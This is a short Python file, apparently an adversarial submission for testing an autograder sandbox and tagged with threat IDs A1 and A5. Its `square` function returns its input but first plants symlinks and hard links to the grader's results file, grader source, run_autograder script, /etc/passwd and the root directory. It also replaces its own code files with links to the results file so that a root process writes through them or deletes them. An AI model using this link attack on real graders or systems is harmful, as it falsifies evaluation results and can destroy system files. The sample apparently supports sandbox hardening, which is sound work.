"""Fills its folder with links that lead to the results, the graders and the engine, for root to write through or remove.

Threat: A1, A5.
"""

import os
import sys
from pathlib import Path


def square(x):
    base = Path(sys.prefix).parent
    targets = [base / "results/results.json", base / "results", base / "source", base / "run_autograder", Path("/etc/passwd"), Path("/")]
    for number, target in enumerate(targets):
        for link in (os.symlink, os.link):
            try:
                link(target, f"{link.__name__}{number}")
            except OSError:
                pass
    for name in ("square.py", ".square.code", ".cube.code", "cube.py"):
        try:
            os.unlink(name)
            os.symlink(targets[0], name)
        except OSError:
            pass
    return x
